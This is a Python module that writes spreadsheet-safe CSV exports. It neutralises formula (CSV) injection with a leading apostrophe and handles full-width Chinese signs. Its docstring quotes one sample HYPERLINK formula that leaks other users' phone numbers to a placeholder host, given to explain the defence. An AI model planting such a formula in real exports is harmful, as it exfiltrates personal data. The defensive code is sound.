"""CSV for the officers' spreadsheets: UTF-8 with the byte-order mark Excel needs to read Chinese, and
no cell that a spreadsheet would run as a formula.

The cells hold what users typed (a question, a conversation id). Excel, LibreOffice and Google
Sheets read a cell that begins with ``= + - @`` (or a tab or carriage return before one) as a
formula, so a question such as ``=HYPERLINK("http://x/?"&E2,"点此")`` would send other rows (other
users' phone numbers) elsewhere when an officer clicks it (OWASP "CSV Injection"). Such a cell is
written with a leading apostrophe, which the spreadsheet shows as text and does not evaluate; the
full-width signs (＝ ＋ － ＠), which Chinese input methods type and some spreadsheets convert,
are treated alike. Every CSV export goes through :func:`write_csv`, which neutralises every cell of
the text it is given, so an export written elsewhere (the report) is covered too.
"""

from __future__ import annotations

import csv
import io
import sys
from collections.abc import Iterable
from pathlib import Path

# The first characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")
TEXT_MARK = "'"


def safe_cell(value: object) -> str:
    """The cell as text, with an apostrophe in front when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    stripped = text.lstrip(" \u3000")
    if stripped[:1] in FORMULA_STARTS:
        return TEXT_MARK + text
    return text


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """Rows as CSV text, every cell neutralised by :func:`safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()


def neutralised(text: str) -> str:
    """CSV text read back and written again with every cell neutralised (idempotent)."""
    return csv_text(csv.reader(io.StringIO(text, newline="")))


def write_csv(text: str, target: str) -> None:
    """CSV text to the file `target`, or to stdout for `-`, with the BOM that tells Excel it is UTF-8,
    and no cell a spreadsheet would run as a formula."""
    text = neutralised(text)
    if target == "-":
        sys.stdout.flush()
        sys.stdout.buffer.write(("\ufeff" + text).encode("utf-8"))
    else:
        Path(target).write_text(text, encoding="utf-8-sig", newline="")
